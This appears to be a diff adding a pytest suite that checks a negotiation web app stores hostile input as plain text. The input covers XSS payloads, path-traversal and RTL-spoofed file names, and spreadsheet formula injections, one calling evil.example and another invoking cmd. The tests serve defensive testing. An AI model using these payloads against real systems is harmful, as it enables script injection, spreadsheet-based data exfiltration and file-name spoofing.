@@ -1,0 +1,320 @@
+"""Hostile input through every text field: stored and shown as text, or refused per field.
+
+The corpus (very long text, right-to-left text and the RTL override, emoji, NUL bytes, HTML
+and <script>, spreadsheet formulas, mojibake) goes through the service layer for proposal
+fields, comments, the HRBP note, the counter reason, attachment names, upload files and
+account display names; AppTest then checks the pages show it as literal text. The one real
+browser check (a <script> justification never runs) is tests/browser/test_hostile_browser.py.
+"""
+
+from __future__ import annotations
+
+import ast
+import re
+
+import pandas as pd
+import pytest
+
+from calibration import auth, demo, exports, importer
+from calibration import negotiation as neg
+from calibration.store import connect
+from tests.apptest_helpers import login
+from tests.factories import ROOT
+from tests.nego_fixtures import ANALYST, EXEC, GOOD, HRBP, LEAD_EAST, make_run
+
+SCRIPT = "<script>alert(1)</script>"
+IMG = "<img src=x onerror=alert(1)>"
+CORPUS: dict[str, str] = {
+    "script": f"{SCRIPT} {IMG} and then some text",
+    "html": "<b>bold</b> <a href='javascript:alert(1)'>link</a> &amp; &lt;",
+    "markdown": "[click me](javascript:alert(1)) **bold** `code` # heading",
+    "rtl": "هذا الهدف غير واقعي \u202egnp.exe \u200f עברית",
+    "emoji": "Growth 🚀📈 👩🏽‍💼 flags 🇨🇳 and ZWJ families 👨‍👩‍👧",
+    "nul": "before\x00after, a NUL byte in the middle",
+    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click for details")',
+    "formula_plus": "+cmd|' /C calc'!A0 and @SUM(1,2) -2+3",
+    "mojibake": "ÖÐÎÄ Ã¤Ã¶Ã¼ â€œquotedâ€ (GBK/UTF-8 read as Latin-1)",
+    "cjk": "搜索热度同比下降 12%,两家大客户预算推迟到下半年。",
+}
+LONG = "长" * 50_000 + "x" * 50_000  # 100k characters, beyond the 5,000 limit
+
+
+def stored(text: str) -> str:
+    """What the service keeps of a text: everything but NUL bytes."""
+    return text.replace("\x00", "")
+
+
+@pytest.fixture
+def cycle(cur) -> int:
+    """An open cycle over east, south, north (hand-made run)."""
+    cid = neg.create_cycle(cur, EXEC, "Q1", "new_customers", "2026Q1", 600)
+    neg.publish_run(cur, ANALYST, cid, make_run(1))
+    neg.open_cycle(cur, EXEC, cid)
+    return cid
+
+
+def _row(cur, cid: int, region: str = "east") -> dict:
+    state = neg.cycle_state(cur, cid)
+    return state[state["region"] == region].iloc[0].to_dict()
+
+
+# --------------------------------------------------------------------- service: proposals
+
+
+@pytest.mark.parametrize("kind", sorted(CORPUS))
+def test_proposal_fields_store_hostile_text_verbatim(cur, cycle, kind: str) -> None:
+    text = CORPUS[kind]
+    neg.propose(cur, LEAD_EAST, cycle, "east", 150, justification=text, support=text,
+                risk=text, confidence="low", expected_last_event=None)
+    row = _row(cur, cycle)
+    for field in ("justification", "support", "risk"):
+        assert row[field] == stored(text)
+    assert neg.verify_chain(cur).ok
+
+
+@pytest.mark.parametrize("field", ["justification", "support", "risk"])
+def test_proposal_field_of_100k_chars_refused_by_name(cur, cycle, field: str) -> None:
+    with pytest.raises(neg.ValidationError) as err:
+        neg.propose(cur, LEAD_EAST, cycle, "east", 200, **{**GOOD, field: LONG},
+                    expected_last_event=None)
+    assert err.value.errors == {field: "nego.err_too_long"}
+    assert _row(cur, cycle)["status"] == "none"  # nothing stored
+
+
+def test_nul_only_justification_is_refused_not_stored(cur, cycle) -> None:
+    with pytest.raises(neg.ValidationError) as err:
+        neg.propose(cur, LEAD_EAST, cycle, "east", 200, **{**GOOD, "justification": "\x00" * 40},
+                    expected_last_event=None)
+    assert err.value.errors == {"justification": "nego.err_justification"}
+
+
+# --------------------------------------------------------------------- service: the others
+
+
+@pytest.mark.parametrize("kind", sorted(CORPUS))
+def test_comment_review_note_and_counter_reason(cur, cycle, kind: str) -> None:
+    text = CORPUS[kind]
+    neg.add_comment(cur, LEAD_EAST, cycle, "east", text)
+    neg.propose(cur, LEAD_EAST, cycle, "east", 100, **GOOD, expected_last_event=None)
+    last = int(_row(cur, cycle)["last_event_id"])
+    neg.resolve_review(cur, HRBP, cycle, "east", "coaching", text, expected_last_event=last)
+    last = int(_row(cur, cycle)["last_event_id"])
+    neg.respond(cur, EXEC, cycle, "east", "counter", expected_last_event=last,
+                counter_value=180, reason=text)
+    row = _row(cur, cycle)
+    assert row["review_note"] == stored(text)
+    assert row["counter_reason"] == stored(text)
+    assert neg.thread(cur, EXEC, cycle, "east")["text"].tolist() == [stored(text)]
+    # The decision log export keeps formula-looking cells inert for spreadsheets.
+    csv = neg.export_log(cur, EXEC, cycle, "csv").decode("utf-8-sig")
+    if text.startswith(("=", "+")):
+        assert "'" + text[:10] in csv
+
+
+@pytest.mark.parametrize("where", ["comment", "note", "reason"])
+def test_other_fields_of_100k_chars_refused_by_name(cur, cycle, where: str) -> None:
+    if where == "comment":
+        with pytest.raises(neg.ValidationError) as err:
+            neg.add_comment(cur, LEAD_EAST, cycle, "east", LONG)
+        assert err.value.errors == {"text": "nego.err_too_long"}
+        return
+    neg.propose(cur, LEAD_EAST, cycle, "east", 100, **GOOD, expected_last_event=None)
+    last = int(_row(cur, cycle)["last_event_id"])
+    with pytest.raises(neg.ValidationError) as err:
+        if where == "note":
+            neg.resolve_review(cur, HRBP, cycle, "east", "coaching", LONG,
+                               expected_last_event=last)
+        else:
+            neg.respond(cur, EXEC, cycle, "east", "counter", expected_last_event=last,
+                        counter_value=180, reason=LONG)
+    assert err.value.errors == {where: "nego.err_too_long"}
+    assert _row(cur, cycle)["last_event_id"] == last  # nothing appended
+
+
+HOSTILE_NAMES = {
+    "traversal": "../../etc/passwd.csv",
+    "windows": "C:\\Windows\\system32\\evil.csv",
+    "script": f"{SCRIPT}.csv",
+    "rtl_override": "invoice\u202efdp.csv",
+    "nul": "evil\x00.csv",
+    "emoji": "业绩 🚀 report.csv",
+    "formula": "=HYPERLINK(1).csv",
+    "long": "n" * 100_000 + ".csv",
+}
+
+
+@pytest.mark.parametrize("kind", sorted(HOSTILE_NAMES))
+def test_attachment_names_are_made_safe(cur, cycle, kind: str) -> None:
+    data = f"region,note\neast,{SCRIPT}\nsouth,=1+1\n".encode()
+    att = neg.add_attachment(cur, LEAD_EAST, cycle, "east", HOSTILE_NAMES[kind], data,
+                             note=CORPUS["script"])
+    got = neg.get_attachment(cur, LEAD_EAST, att)
+    name = got["file_name"]
+    assert got["data"] == data  # the evidence is kept byte for byte
+    assert name.endswith(".csv") and len(name) <= 120
+    assert not re.search(r"[/\\<>\x00-\x1f\u202a-\u202e\u2066-\u2069]", name), name
+    assert not name.startswith(".")
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "key"),
+    [
+        ("utf16.csv", "region\neast\n".encode("utf-16"), "nego.err_file_content"),
+        ("nul.csv", b"region\x00east", "nego.err_file_content"),
+        ("fake.pdf", b"<html><script>alert(1)</script></html>", "nego.err_file_content"),
+        ("page.html", b"<script>alert(1)</script>", "nego.err_file_type"),
+        ("empty.csv", b"", "nego.err_file_empty"),
+        # Leading dots are stripped (no hidden files), which leaves no extension.
+        ("....csv", b"region\neast\n", "nego.err_file_type"),
+    ],
+)
+def test_attachment_wrong_content_refused_by_field(cur, cycle, name, data, key) -> None:
+    with pytest.raises(neg.ValidationError) as err:
+        neg.add_attachment(cur, LEAD_EAST, cycle, "east", name, data)
+    assert err.value.errors == {"file": key}
+
+
+# --------------------------------------------------------------------- service: uploads
+
+
+def test_upload_stores_hostile_cells_as_text_and_exports_them_inert(cur) -> None:
+    frame = pd.DataFrame({
+        "region": ["east", "south", "north", "west", "mid"],
+        "name": [SCRIPT, CORPUS["formula"], CORPUS["rtl"], CORPUS["emoji"], "x" * 100_000],
+    })
+    result = importer.import_bytes(cur, auth.SYSTEM, "regions", f"{SCRIPT}.csv",
+                                   frame.to_csv(index=False).encode("utf-8"))
+    assert result.rows == 5
+    names = dict(cur.execute("SELECT region, name_en FROM regions").fetchall())
+    assert names["east"] == SCRIPT and names["south"] == CORPUS["formula"]
+    assert len(names["mid"]) == 100_000
+    out = exports.csv_bytes(pd.DataFrame({"name": [names["south"]]})).decode("utf-8-sig")
+    assert "'=HYPERLINK" in out
+
+
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("utf16.csv", "region,period,metric,value\neast,2025Q1,m,1\n".encode("utf-16")),
+        ("nul.csv", b"region,period,metric,value\neast,2025Q1,m,1\x00\n"),
+        ("binary.csv", bytes(range(256)) * 8),
+        ("fake.xlsx", b"PK\x03\x04 this is not a workbook"),
+        ("formula.csv", b"region,period,metric,value\neast,2025Q1,m,=HYPERLINK(1)\n"),
+        ("script.csv", b"region,period,metric,value\n<script>,2025Q1,m,<script>\n"),
+    ],
+)
+def test_upload_bad_files_refused_with_a_located_reason(cur, name: str, data: bytes) -> None:
+    with pytest.raises(importer.ImportRejected) as err:
+        importer.import_bytes(cur, auth.SYSTEM, "history", name, data)
+    assert err.value.problems and all(p.file == name for p in err.value.problems)
+    assert all(p.reason for p in err.value.problems)
+    assert cur.execute("SELECT count(*) FROM history").fetchall() == [(0,)]
+
+
+def test_upload_in_gbk_is_read_as_chinese(cur) -> None:
+    data = "region,name\neast,华东 <script>\n".encode("gbk")
+    importer.import_bytes(cur, auth.SYSTEM, "regions", "gbk.csv", data)
+    # A Chinese name is the Chinese display name (README); the tag stays text.
+    assert cur.execute("SELECT name_zh FROM regions").fetchall() == [("华东 <script>",)]
+
+
+@pytest.mark.parametrize("kind", sorted(CORPUS))
+def test_display_names_stored_as_given(cur, kind: str) -> None:
+    user = auth.add_user(cur, auth.SYSTEM, f"lead_{kind}", "lead", "long-enough-pw",
+                         ["east"], CORPUS[kind])
+    assert auth.load_user(cur, user.username).display_name == CORPUS[kind]
+
+
+# --------------------------------------------------------------------- pages
+
+
+def _literal(node: ast.AST) -> bool:
+    """A string fixed in the source (constants, joined or concatenated), never user data."""
+    if isinstance(node, ast.Constant):
+        return isinstance(node.value, str)
+    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
+        return _literal(node.left) and _literal(node.right)
+    return False
+
+
+def test_no_page_renders_user_text_as_html() -> None:
+    """HTML is rendered only from literals: st.html(...) and unsafe_allow_html=True calls in
+    pages, the router and ui/ take fixed strings (e.g. the board's presentation CSS)."""
+    files = [ROOT / "app.py", *sorted((ROOT / "pages").glob("*.py")),
+             *sorted((ROOT / "ui").glob("*.py"))]
+    for path in files:
+        source = path.read_text(encoding="utf-8")
+        assert "components.v1" not in source and "components.html" not in source, path.name
+        for node in ast.walk(ast.parse(source)):
+            if not isinstance(node, ast.Call) or not isinstance(node.func, ast.Attribute):
+                continue
+            unsafe = any(k.arg == "unsafe_allow_html" and not (
+                isinstance(k.value, ast.Constant) and k.value.value is False)
+                for k in node.keywords)
+            if node.func.attr == "html" or unsafe:
+                assert node.args and all(_literal(a) for a in node.args), (
+                    f"{path.name}:{node.lineno} renders non-literal HTML")
+
+
+@pytest.fixture
+def hostile_app(app_env):
+    """The app's database: demo accounts, a lead with a hostile display name, an open cycle
+    where East's flagged proposal, comment and HR-visible fields carry the corpus."""
+    con = connect(app_env)
+    cur = con.cursor()
+    demo.load_demo(cur)
+    auth.add_user(cur, auth.SYSTEM, "lead_evil", "lead", demo.DEMO_PASSWORD, ["south"],
+                  f"Mallory {SCRIPT} {CORPUS['markdown']} \u202eRTL")
+    cid = neg.create_cycle(cur, EXEC, f"Cycle {SCRIPT}", "new_customers", "2026Q1", 1200)
+    neg.publish_run(cur, ANALYST, cid, make_run(1, {"east": 220.0, "south": 200.0}))
+    neg.open_cycle(cur, EXEC, cid)
+    lead = auth.load_user(cur, "lead_east")
+    neg.propose(cur, lead, cid, "east", 100, justification=CORPUS["script"],
+                support=CORPUS["formula"], risk=CORPUS["rtl"], confidence="low",
+                expected_last_event=None)
+    neg.add_comment(cur, lead, cid, "east", CORPUS["html"])
+    con.close()
+    return app_env, cid
+
+
+def _texts(at) -> list[str]:
+    return [e.value for e in at.text]
+
+
+def test_review_page_shows_hostile_fields_as_literal_text(hostile_app) -> None:
+    at = login("hrbp")
+    at.switch_page("pages/review.py")
+    at.run()
+    assert not at.exception, at.exception
+    texts = _texts(at)
+    # st.text renders its value verbatim (no Markdown, no HTML): the tags are visible text.
+    assert CORPUS["script"] in texts
+    assert CORPUS["formula"] in texts
+    assert CORPUS["rtl"] in texts
+    assert CORPUS["html"] in texts  # the comment, in the thread expander
+
+
+def test_my_region_shows_comment_as_text_and_refuses_100k(hostile_app) -> None:
+    at = login("lead_east")
+    at.switch_page("pages/my_region.py")
+    at.run()
+    assert not at.exception, at.exception
+    assert CORPUS["html"] in _texts(at)
+    # The widgets cap typing at the service's limit; a longer value never reaches it.
+    for key in ("nego_just", "nego_support", "nego_risk", "nego_comment"):
+        assert at.text_area(key=key).max_chars == neg.MAX_TEXT
+    at.text_area(key="nego_just").input(LONG)
+    next(b for b in at.button if b.label == "Submit proposal").click()
+    at.run()
+    assert not at.exception, at.exception
+    # The over-long value never reaches the service (a browser stops typing at the limit).
+    assert len(at.text_area(key="nego_just").value or "") <= neg.MAX_TEXT
+
+
+def test_sidebar_shows_hostile_display_name_as_text(hostile_app) -> None:
+    at = login("lead_evil")
+    assert not at.exception, at.exception
+    captions = [c.value for c in at.sidebar.caption]
+    # Markdown escapes HTML: the tag stays text. (Markdown links in a display name would
+    # still render as links: see the report.)
+    assert any(SCRIPT in c for c in captions), captions
